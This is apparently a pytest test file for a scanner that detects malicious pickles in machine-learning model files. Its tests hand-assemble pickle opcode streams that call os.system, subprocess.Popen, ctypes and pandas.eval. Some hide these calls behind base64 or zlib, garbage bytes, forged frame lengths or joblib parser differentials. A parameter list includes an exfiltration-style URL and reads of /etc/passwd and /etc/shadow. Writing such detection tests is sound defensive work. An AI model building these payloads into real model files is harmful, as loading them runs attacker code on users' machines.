        ("_thread", "start_new_thread"),
        ("atexit", "register"),
        ("copyreg", "add_extension"),
        ("importlib", "import_module"),
        ("operator", "attrgetter"),
        ("functools", "partial"),
        ("_functools", "reduce"),
        ("_codecs", "open"),
        ("_io", "open"),
        ("io", "open"),
        ("types", "FunctionType"),
        ("sklearn.utils._testing", "assert_run_python_script_without_output"),
        ("numpy.distutils.exec_command", "exec_command"),
        ("platform", "popen"),
        ("tempfile", "NamedTemporaryFile"),
        ("zipfile", "ZipFile"),
        ("tarfile", "open"),
        ("gc", "get_objects"),
        ("inspect", "getsource"),
        ("signal", "signal"),
        ("cloudpickle.cloudpickle", "_make_function"),
        ("pydoc", "pipepager"),
        ("idlelib.pyshell", "main"),
    ],
)
def test_classic_payloads(module: str, name: str) -> None:
    """Classic payloads and their aliases, via GLOBAL (protocol 0) and STACK_GLOBAL (protocol 4)."""
    for sg in (True, False):
        assert_caught(scan(call(module, name, PAYLOAD, stack_global=sg)), f"{module}.{name}")


def test_dotted_stack_global_names() -> None:
    """``os.path`` as module plus a dotted attribute path reaching ``os``."""
    assert_caught(scan(call("os.path", "os.system", PAYLOAD)))
    assert_caught(scan(call("collections", "os.system", PAYLOAD)))


def test_names_built_by_string_operations() -> None:
    """``''.join(['o','s'])`` and ``operator.add`` results used as STACK_GLOBAL operands are resolved."""
    join = sglob("builtins", "getattr") + u("") + u("join") + TUPLE2 + REDUCE
    mod = join + EMPTY_LIST + MARK + u("o") + u("s") + APPENDS + TUPLE1 + REDUCE
    name = reduce_of("operator", "add", u("sys"), u("tem"))
    data = proto(4) + mod + name + STACK_GLOBAL + PAYLOAD + TUPLE1 + REDUCE + STOP
    r = scan(data)
    assert_caught(r, "os.system")


def test_stack_global_with_unresolvable_names() -> None:
    """STACK_GLOBAL operands that are results of unknown calls still give a finding."""
    data = (
        proto(4) + reduce_of("mystery", "fn") + u("system") + STACK_GLOBAL + PAYLOAD + TUPLE1 + REDUCE + STOP
    )
    r = scan(data)
    assert_caught(r)


def test_getattr_on_import_chain() -> None:
    """getattr(__import__('os'), 'system')('id') resolves to os.system."""
    data = (
        proto(2)
        + glob("builtins", "getattr")
        + glob("builtins", "__import__")
        + string("os")
        + TUPLE1
        + REDUCE
        + string("system")
        + TUPLE2
        + REDUCE
        + string("id")
        + TUPLE1
        + REDUCE
        + STOP
    )
    assert_caught(scan(data), "os.system")


def test_functools_partial_resolved() -> None:
    """functools.partial(os.system, 'id')() reports os.system and the wrapper."""
    data = (
        proto(4)
        + reduce_of("_functools", "partial", sglob("os", "system"), PAYLOAD)
        + EMPTY_TUPLE
        + REDUCE
        + STOP
    )
    assert_caught(scan(data), "os.system", "_functools.partial")


def test_copyreg_reconstructor_with_dangerous_class() -> None:
    """copyreg._reconstructor is allowed, the class it builds is judged."""
    data = (
        proto(2)
        + glob("copy_reg", "_reconstructor")
        + glob("subprocess", "Popen")
        + glob("__builtin__", "object")
        + NONE
        + TUPLE3
        + REDUCE
        + STOP
    )
    assert_caught(scan(data), "subprocess.Popen")


def test_build_setstate_on_dangerous_instance() -> None:
    """NEWOBJ of a dangerous class then BUILD with a state dict."""
    data = (
        proto(4)
        + sglob("code", "InteractiveConsole")
        + EMPTY_TUPLE
        + NEWOBJ
        + EMPTY_DICT
        + u("locals")
        + EMPTY_DICT
        + SETITEM
        + BUILD
        + STOP
    )
    assert_caught(scan(data), "code.InteractiveConsole")


def test_build_on_module_object() -> None:
    """BUILD on a module returned by importlib sets attributes of the module (global state tampering)."""
    data = proto(4) + reduce_of("importlib", "import_module", u("json")) + EMPTY_DICT + BUILD + STOP
    r = scan(data)
    assert any(f.rule_id == "LW-MODEL-009" for f in r.findings)


def test_nested_pickle_in_bytesio_for_torch_load() -> None:
    """torch.load(io.BytesIO(<pickle>)) analyses the inner pickle."""
    inner = proto(2) + glob("subprocess", "call") + string("id") + TUPLE1 + REDUCE + STOP
    data = proto(4) + reduce_of("torch", "load", reduce_of("io", "BytesIO", sb(inner))) + STOP
    assert_caught(scan(data), "torch.load", "subprocess.call")


def test_nested_pickle_via_codecs_latin1() -> None:
    """pickle.loads(_codecs.encode('<pickle as latin-1 text>', 'latin1'))."""
    inner = (proto(2) + glob("os", "system") + string("id") + TUPLE1 + REDUCE + STOP).decode("latin-1")
    data = (
        proto(2) + reduce_of("pickle", "loads", reduce_of("_codecs", "encode", u(inner), u("latin1"))) + STOP
    )
    assert_caught(scan(data), "os.system")


def test_nested_pickle_base64_and_zlib() -> None:
    """Nested pickles hidden behind base64 and zlib are decoded (bounded) and analysed."""
    inner = proto(2) + glob("os", "system") + string("id") + TUPLE1 + REDUCE + STOP
    b64 = (
        proto(4)
        + reduce_of("pickle", "loads", reduce_of("base64", "b64decode", u(base64.b64encode(inner).decode())))
        + STOP
    )
    assert_caught(scan(b64), "os.system")
    z = (
        proto(4)
        + reduce_of("pickle", "loads", reduce_of("zlib", "decompress", sb(zlib.compress(inner))))
        + STOP
    )
    assert_caught(scan(z), "os.system")


def test_nested_depth_limit_is_unverified() -> None:
    """Pickles nested deeper than max_depth make the result unverified, naming the bound."""
    inner = proto(2) + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + STOP
    for _ in range(5):
        inner = proto(4) + reduce_of("pickle", "loads", sb(inner)) + STOP
    r = scan(inner, limits=Limits(max_depth=2))
    assert r.unverified is not None
    assert "max_depth" in r.unverified


def test_payload_after_first_stop_stacked() -> None:
    """A benign pickle followed by a malicious one: both are analysed."""
    benign = pickle.dumps({"a": 1}, protocol=4)
    evil = call("os", "system", PAYLOAD)
    r = scan(benign + evil)
    assert_caught(r, "os.system")
    assert r.pickles == 2


def test_payload_hidden_after_garbage() -> None:
    """Garbage after the first pickle, then a malicious pickle: resynchronisation finds it."""
    benign = pickle.dumps([1, 2], protocol=2)
    r = scan(benign + b"\xff\xfe garbage \x00" + call("os", "system", PAYLOAD))
    assert_caught(r, "os.system")


def test_payload_after_invalid_opcode() -> None:
    """An invalid opcode, then a payload: unverified and the payload is still reported."""
    r = scan(proto(4) + u("x") + b"\xff" + call("subprocess", "Popen", PAYLOAD))
    assert r.unverified is not None
    assert "invalid opcode" in r.unverified
    assert_caught(r, "subprocess.Popen")


def test_bad_proto_number() -> None:
    """PROTO 9 is rejected by CPython; the file is unverified and the payload behind it is still found."""
    r = scan(b"\x80\x09" + glob("os", "system") + string("id") + TUPLE1 + REDUCE + STOP)
    assert r.unverified is not None
    assert "protocol" in r.unverified
    assert_caught(r, "os.system")


def test_huge_frame_length() -> None:
    """A FRAME announcing 2**63 bytes is not allocated; the payload is found and the stream is unverified."""
    data = (
        proto(4)
        + b"\x95"
        + struct.pack("<Q", 2**63)
        + sglob("os", "system")
        + PAYLOAD
        + TUPLE1
        + REDUCE
        + STOP
    )
    r = scan(data)
    assert_caught(r, "os.system")
    assert r.unverified is not None
    assert "FRAME" in r.unverified


@pytest.mark.parametrize("ext", [b"\x82\x01", b"\x83\x01\x02", b"\x84\x01\x02\x03\x04"])
def test_ext_opcodes(ext: bytes) -> None:
    """EXT1/EXT2/EXT4 resolve through the copyreg extension registry, unknowable statically."""
    r = scan(proto(2) + ext + PAYLOAD + TUPLE1 + REDUCE + STOP)
    assert_caught(r)
    assert any(f.rule_id == "LW-MODEL-010" for f in r.findings)


def test_truncated_before_stop_is_unverified() -> None:
    """A stream that ends before STOP is never clean."""
    r = scan(pickle.dumps({"a": [1, 2, 3]}, protocol=4)[:-3])
    assert r.unverified is not None
    assert "truncated" in r.unverified


# --- joblib stream differentials: the array bytes joblib reads after a NumpyArrayWrapper -------------------


def _dtype_ops(spec: str, elsize: int = -1, flags: int = 0) -> bytes:
    return (
        sglob("numpy", "dtype")
        + u(spec)
        + b"\x89\x88"
        + TUPLE3
        + REDUCE
        + MARK
        + binint1(3)
        + u("<")
        + NONE
        + NONE
        + NONE
        + b"J"
        + struct.pack("<i", elsize)
        + b"J\xff\xff\xff\xff"
        + b"J"
        + struct.pack("<i", flags)
        + TUPLE
        + BUILD
    )


def _wrapper_state(shape_ops: bytes, dtype_ops: bytes, extra: bytes = b"") -> bytes:
    return (
        EMPTY_DICT
        + MARK
        + u("shape")
        + shape_ops
        + u("dtype")
        + dtype_ops
        + u("order")
        + u("C")
        + extra
        + b"u"
    )


_TAIL_PAYLOAD = POP + sglob("os", "system") + PAYLOAD + TUPLE1 + REDUCE + STOP


def test_joblib_fixed_dtype_with_bogus_state_size() -> None:
    """numpy ignores the state's element size for fixed-size dtypes: sizing 'f8' by a forged elsize of 1000
    would
    skip the payload that joblib runs after the 8 array bytes (parser differential, the class of
    https://github.com/mmaitre314/picklescan/security/advisories/GHSA-9gvj-pp9x-gcfr)."""
    head = (
        proto(4)
        + sglob("joblib.numpy_pickle", "NumpyArrayWrapper")
        + EMPTY_TUPLE
        + NEWOBJ
        + _wrapper_state(binint1(1) + TUPLE1, _dtype_ops("f8", elsize=1000))
        + BUILD
    )
    region = b"\x00" * 8 + _TAIL_PAYLOAD
    data = head + region + b"\x00" * (1000 - len(region)) + STOP
    assert_caught(scan(data, joblib=True), "os.system")


def test_joblib_wrapper_built_by_copyreg_reconstructor() -> None:
    """joblib tests ``isinstance(obj, NumpyArrayWrapper)``: an instance made by copyreg._reconstructor
    counts too,
    so its array bytes must be skipped, not parsed (where a BINBYTES could swallow the payload)."""
    head = (
        proto(4)
        + sglob("copyreg", "_reconstructor")
        + sglob("joblib.numpy_pickle", "NumpyArrayWrapper")
        + sglob("builtins", "object")
        + NONE
        + TUPLE3
        + REDUCE
        + _wrapper_state(binint1(6) + TUPLE1, _dtype_ops("u1"))
        + BUILD
    )
    # Parsed as opcodes, the 6 "array" bytes open a BINBYTES that would hide the payload.
    swallow = b"B" + struct.pack("<I", len(_TAIL_PAYLOAD) + 1) + b"\x00"
    data = head + swallow + _TAIL_PAYLOAD + POP + STOP
    assert_caught(scan(data, joblib=True), "os.system")


def test_joblib_duplicate_state_keys_last_wins() -> None:
    """A state dict with 'shape' twice: like a dict, the last value sizes the array."""
    state = _wrapper_state(binint1(200) + TUPLE1, _dtype_ops("u1"), extra=u("shape") + binint1(2) + TUPLE1)
    head = proto(4) + sglob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD
    data = head + b"\x00\x00" + _TAIL_PAYLOAD + b"\x00" * 300 + STOP
    assert_caught(scan(data, joblib=True), "os.system")


def test_joblib_array_inside_frame_is_unverified() -> None:
    """joblib reads array bytes after the current frame while opcodes continue inside it: fail closed."""
    body = (
        sglob("joblib.numpy_pickle", "NumpyArrayWrapper")
        + EMPTY_TUPLE
        + NEWOBJ
        + _wrapper_state(binint1(1) + TUPLE1, _dtype_ops("u1"))
        + BUILD
    )
    data = proto(4) + b"\x95" + struct.pack("<Q", len(body) + 40) + body + b"\x00" + STOP
    r = scan(data, joblib=True)
    assert r.unverified is not None
    assert "frame" in r.unverified


def test_build_plants_setstate_then_second_build_calls_it() -> None:
    """BUILD puts ``__setstate__`` into an instance dict; the next BUILD on the same object calls it (the
    unpickler looks ``__setstate__`` up on the instance). Planting special attributes is reported even when
    the
    planted callable is an allowed one."""
    data = (
        proto(4)
        + sglob("collections", "OrderedDict")
        + EMPTY_TUPLE
        + NEWOBJ
        + EMPTY_DICT
        + u("__setstate__")
        + sglob("builtins", "bytes")
        + SETITEM
        + BUILD
        + binint1(10)
        + BUILD
        + STOP
    )
    r = scan(data)
    assert_caught(r, "__setstate__")
    assert any(f.rule_id == "LW-MODEL-016" for f in r.findings)


def test_torch_set_obj_state_on_global() -> None:
    """An allowed torch helper (``_set_obj_state``) used to set attributes on a class (global tampering, the
    modelscan issue 85 technique through an allow-listed function)."""
    data = (
        proto(4)
        + reduce_of(
            "torch._utils",
            "_set_obj_state",
            sglob("torch", "FloatStorage"),
            EMPTY_DICT + u("a") + u("os") + SETITEM,
        )
        + STOP
    )
    r = scan(data)
    assert any(f.rule_id == "LW-MODEL-009" and f.severity is Severity.CRITICAL for f in r.findings)


def test_numpy_ufunc_reconstruct_is_a_resolver() -> None:
    """numpy's ``_ufunc_reconstruct(module, name)`` imports ``module`` and returns ``getattr(module, name)``:
    allowed only as the constant form numpy writes, and then judged as that global."""
    benign = proto(2) + reduce_of("numpy.core", "_ufunc_reconstruct", u("numpy"), u("log1p")) + STOP
    r = scan(benign)
    assert r.findings == ()
    assert "numpy.log1p" in r.callables
    evil = proto(2) + reduce_of("numpy._core", "_ufunc_reconstruct", u("os"), u("system")) + PAYLOAD
    assert_caught(scan(evil + TUPLE1 + REDUCE + STOP), "os.system")


# --- pandas / pyarrow: allowing their data classes must not allow their code and IO paths ------------------


@pytest.mark.parametrize(
    ("module", "name", "arg"),
    [
        ("pandas", "eval", u("__import__('os').system('id')")),
        ("pandas.core.computation.eval", "eval", u("__import__('os').system('id')")),
        ("pandas", "read_pickle", u("https://example.invalid/evil.pkl")),
        ("pandas.io.pickle", "read_pickle", u("/tmp/evil.pkl")),
        ("pandas", "read_csv", u("https://example.invalid/?exfil")),
        ("pandas", "HDFStore", u("/tmp/created-by-a-pickle.h5")),
        ("pandas", "ExcelWriter", u("/tmp/created-by-a-pickle.xlsx")),
        ("pandas.io.pytables", "HDFStore", u("/tmp/x.h5")),
        ("pandas._libs.parsers", "TextReader", u("/etc/passwd")),
        ("pandas.core.common", "pipe", u("x")),
        ("pandas.util._decorators", "Appender", u("x")),
        ("pandas.plotting._core", "_get_plot_backend", u("os")),
        ("pandas.core.frame", "DataFrame.query", u("x")),
        ("pyarrow.lib", "memory_map", u("/etc/shadow")),
        ("pyarrow.lib", "OSFile", u("/tmp/x")),
        ("pyarrow.parquet", "read_table", u("https://example.invalid/x.parquet")),
    ],
)
def test_pandas_and_pyarrow_code_and_io_paths_stay_findings(module: str, name: str, arg: bytes) -> None:
    """pandas data classes are allow-listed (tests/integration/test_benign_models.py); these are not."""
    assert_caught(scan(call(module, name, arg)), f"{module}.{name}")


# --- getattr: judged by what it reaches -----------------------------------------------------------------------
# pandas pickles time zones as getattr(zoneinfo.ZoneInfo, "_unpickle")(key, 1). An imported getattr is reported
# unless every copy of it is called directly with a constant name that resolves to an allow-listed callable;
# any other use (kept, popped, stored, handed on) may call it later with names the analysis never sees.

GETATTR = sglob("builtins", "getattr") + MEMOIZE
ZONE_UNPICKLE = sglob("zoneinfo", "ZoneInfo") + u("_unpickle") + TUPLE2 + REDUCE
DUP = b"2"


def _getattr_reported(result: PickleResult) -> bool:
    return any(f.evidence.get("subject") == "builtins.getattr" for f in result.findings)


def _zone(getattr_ops: bytes) -> bytes:
    """getattr(zoneinfo.ZoneInfo, "_unpickle")("Europe/Berlin", 1), with the getattr taken from ``getattr_ops``."""
    return getattr_ops + ZONE_UNPICKLE + u("Europe/Berlin") + binint1(1) + TUPLE2 + REDUCE


def test_getattr_that_resolves_to_allowed_callables_is_not_a_finding() -> None:
    once = proto(4) + _zone(GETATTR) + STOP
    twice = proto(4) + MARK + _zone(GETATTR) + _zone(get(0)) + TUPLE + STOP
    for data in (once, twice):
        result = scan(data)
        assert result.findings == (), result.findings
        assert result.unverified is None


@pytest.mark.parametrize(
    "tail",
    [
        pytest.param(POP + NONE, id="popped"),
        pytest.param(b"", id="left-on-the-stack"),
        pytest.param(EMPTY_LIST + get(0) + b"a", id="appended-to-a-list"),
        pytest.param(POP + EMPTY_DICT + u("k") + get(0) + SETITEM, id="stored-in-a-dict"),
        pytest.param(POP + sglob("functools", "partial") + get(0) + TUPLE1 + REDUCE, id="wrapped-in-partial"),
        pytest.param(
            POP + sglob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + get(0) + BUILD,
            id="build-state",
        ),
        pytest.param(DUP + POP + POP + NONE, id="duplicated-and-dropped"),
        pytest.param(POP + get(0) + EMPTY_TUPLE + NEWOBJ, id="newobj"),
        pytest.param(POP + sglob("builtins", "list") + MARK + get(0) + TUPLE + REDUCE, id="call-argument"),
    ],
)
def test_getattr_that_escapes_is_reported(tail: bytes) -> None:
    """The import is followed by one good call (so a use is seen) and then a use that is not a direct call."""
    data = proto(4) + GETATTR + _zone(get(0)) + POP + get(0) + tail + STOP
    result = scan(data)
    assert _getattr_reported(result), (tail, result.findings)


def test_getattr_copy_escaping_beside_good_calls_is_reported() -> None:
    """Two copies called well and one kept in a list: the count of copies and calls must match exactly."""
    data = proto(4) + MARK + _zone(GETATTR) + _zone(get(0)) + EMPTY_LIST + get(0) + b"a" + TUPLE + STOP
    assert _getattr_reported(scan(data))


def test_getattr_taken_back_from_a_container_and_called_is_still_reported() -> None:
    """A copy stored in a dict and fetched with itemgetter: the stored copy may be used elsewhere too."""
    stored = EMPTY_DICT + MEMOIZE + u("g") + get(0) + SETITEM
    fetch = sglob("operator", "itemgetter") + u("g") + TUPLE1 + REDUCE + get(1) + TUPLE1 + REDUCE
    data = proto(4) + GETATTR + POP + stored + POP + _zone(fetch) + STOP
    assert _getattr_reported(scan(data))


def test_getattr_reaching_a_callable_off_the_allow_list_is_reported_with_it() -> None:
    data = proto(4) + GETATTR + sglob("ctypes", "CDLL") + u("libc.so.6") + TUPLE1 + REDUCE + u("system")
    data += TUPLE2 + REDUCE + sb(b"id") + TUPLE1 + REDUCE + STOP
    result = scan(data)
    assert _getattr_reported(result)
    assert_caught(result, "ctypes.CDLL")


def test_getattr_with_a_computed_name_is_reported() -> None:
    name = (
        sglob("builtins", "str") + u("_unpickle") + TUPLE1 + REDUCE
    )  # str("_unpickle"): not a constant here
    data = proto(4) + GETATTR + sglob("zoneinfo", "ZoneInfo") + name + TUPLE2 + REDUCE + STOP
    assert _getattr_reported(scan(data))


def test_getattr_imported_by_inst_or_denied_is_always_reported() -> None:
    inst = MARK + glob("zoneinfo", "ZoneInfo") + unicode0("_unpickle") + b"ibuiltins\ngetattr\n" + STOP
    assert _getattr_reported(scan(inst))
    denied = AllowList.default().extended(deny=["builtins.getattr"])
    assert _getattr_reported(scan(proto(4) + _zone(GETATTR) + STOP, allow=denied))
